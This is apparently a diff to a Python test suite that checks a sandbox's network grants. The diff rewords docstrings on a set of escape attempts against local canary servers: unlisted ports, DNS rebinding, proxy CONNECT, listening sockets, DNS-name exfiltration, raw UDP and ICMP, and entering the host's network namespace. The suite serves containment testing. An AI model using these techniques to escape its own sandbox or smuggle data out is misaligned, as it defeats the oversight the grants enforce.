@@ -1,6 +1,6 @@
 """Reaching servers that were not granted: by other ports, addresses, names and protocols.
 
-Granted are net:127.0.0.1:{port} and net:{name}:{port}. All servers are canaries: they answer with a secret.
+The grants are net:127.0.0.1:{port} and net:{name}:{port}. All servers are canaries: they answer with a secret.
 """
 
 import os
@@ -43,7 +43,7 @@ def tcp_other_port_of_granted_name(t):
 
 @escape
 def tcp_other_port_by_zero(t):
-    """0.0.0.0 is this very machine."""
+    """0.0.0.0 means this machine."""
     return ask_tcp("0.0.0.0", t["other_port"])
 
 
@@ -84,7 +84,7 @@ def tcp_granted_port_of_forbidden_name(t):
 
 @escape
 def tcp_name_that_rebinds(t):
-    """A granted name whose owner lets it point at the machine's own loopback."""
+    """A granted name whose owner lets it resolve to loopback."""
     return ask_tcp(t["rebinding_name"], t["port"])
 
 
@@ -95,7 +95,7 @@ def tcp_multipath(t):
 
 @escape
 def tcp_fast_open(t):
-    """Data first, no connect call."""
+    """The first packet carries data, without a call of connect."""
     with socket.socket() as s:
         s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("ll", 1, 0))
         s.sendto(b"ask", socket.MSG_FASTOPEN, ("127.0.0.1", int(t["other_port"])))
@@ -104,7 +104,7 @@ def tcp_fast_open(t):
 
 @escape
 def tcp_through_proxy(t):
-    """If the host offers a proxy inside, it must know the grants."""
+    """If the host offers a proxy inside, it must enforce the grants."""
     def through(port, wanted):
         with socket.create_connection(("127.0.0.1", port), TIMEOUT) as s:
             s.sendall(f"CONNECT {wanted} HTTP/1.1\r\nHost: {wanted}\r\n\r\n".encode())
@@ -122,7 +122,7 @@ def tcp_stand_in_addresses(t):
 
 @escape
 def tcp_listen(t):
-    """Being called is a way out too."""
+    """Accepting a connection is a way out, too."""
     with socket.socket() as s:
         s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
         s.bind(("127.0.0.1", int(t["listen_port"])))
@@ -138,7 +138,7 @@ def udp(t):
 
 @escape
 def udp_granted_port(t):
-    """What is granted is TCP."""
+    """Only TCP is granted."""
     return ask_udp("127.0.0.1", t["port"])
 
 
@@ -159,7 +159,7 @@ def question(name, kind):
 
 @escape
 def dns_server(t):
-    """Any name server but the host's own is just another UDP server."""
+    """A name server other than the host's own is just another UDP server."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
         s.settimeout(TIMEOUT / 5)
         s.sendto(question("text.test", 16), ("127.0.0.1", 53))
@@ -176,7 +176,7 @@ def dns_server_over_tcp(t):
 
 @escape
 def dns_exfiltration(t):
-    """The question is the message: it must not reach anybody."""
+    """The query itself carries the message, so it must not be forwarded."""
     try:
         socket.getaddrinfo(f"{t['stray']}.leak.test", 80)
     except socket.gaierror:
@@ -195,7 +195,7 @@ def dns_exfiltration_below_granted_name(t):
 
 @escape
 def dns_exfiltration_by_record_type(t):
-    """Straight to whatever resolves names here, of a type that it need not know."""
+    """Directly to the name server, with a query type that it need not know."""
     with open("/etc/resolv.conf") as file:
         servers = [line.split()[1] for line in file if line.startswith("nameserver")]
     for kind in (16, 15, 65, 255):
@@ -228,7 +228,7 @@ def raw_icmp(t):
 
 @escape
 def ping_socket(t):
-    """ICMP without a right, where the system lets groups."""
+    """ICMP without privileges, if the system allows it for groups."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
         s.settimeout(TIMEOUT / 5)
         s.sendto(struct.pack(">BBHHH", 8, 0, 0, 0, 7), (t["other_host"], 0))
@@ -238,7 +238,7 @@ def ping_socket(t):
 
 @escape
 def raw_udp(t):
-    """A UDP packet with a header made by hand."""
+    """A UDP packet with a header built by the attempt."""
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as s:
         s.sendto(struct.pack(">4H", 9, int(t["udp_port"]), 8 + len(t["stray"]), 0) + t["stray"].encode(), ("127.0.0.1", 0))
     return did("sent")
@@ -287,7 +287,7 @@ def enter_network(t, pid):
 
 @escape
 def enter_network_of_host(t):
-    """The namespace is a file; whoever may open it and has the right may enter."""
+    """The namespace is a file, and a process with the right may enter it."""
     return enter_network(t, t["host_pid"])
 
 
